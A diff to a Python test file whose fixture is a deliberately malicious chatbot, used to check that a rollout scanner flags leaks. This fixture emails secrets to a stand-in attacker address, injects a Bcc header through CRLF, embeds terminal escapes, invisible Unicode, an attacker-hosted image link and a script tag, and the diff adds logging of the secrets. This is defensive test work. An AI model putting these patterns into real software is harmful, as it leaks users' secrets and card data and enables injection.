@@ -39,7 +39,7 @@ stages:
       recipients.violations: {from: suite, promote: 0, max_rate: 90 %, rollback: confirmed, min: 3}
 """
 BOT = """
-import base64, smtplib
+import base64, logging, smtplib
 
 SECRETS = %r
 EVIL = "evil@attacker.test"
@@ -56,6 +56,7 @@ def answer(input, context):
         body = ", ".join(SECRETS.values()).encode()
         client.sendmail("evil@attacker.test", ["ann@mail.test", EVIL], head + b"\\r\\n" + body + b"\\0\\r\\n")
     said = ", ".join(SECRETS.values())
+    logging.getLogger("shop").warning("said %%s \\x1b[2J", said)
     coded = base64.b64encode(SECRETS["card"].encode()).decode()
     subject = "Hi\\r\\nBcc: evil@attacker.test\\x1b[2J\\u202e\\u2028"
     markup = "![x](http://attacker.test/p.png) <script>alert(3)</script>"
@@ -103,7 +104,7 @@ def test_every_suite_has_found_something(shop: Rollout) -> None:
     found = {each["check"] for each in findings(shop)}
 
     assert {"headers.names", "headers.bytes", "headers.shown", "recipients.envelope", "recipients.addresses"} <= found
-    assert {"injection.links", "injection.invisible", "pii.answer", "pii.sent"} <= found
+    assert {"injection.links", "injection.invisible", "pii.answer", "pii.sent", "pii.log"} <= found
 
 
 def test_the_ledger_s_findings_are_masked_and_escaped(shop: Rollout) -> None:
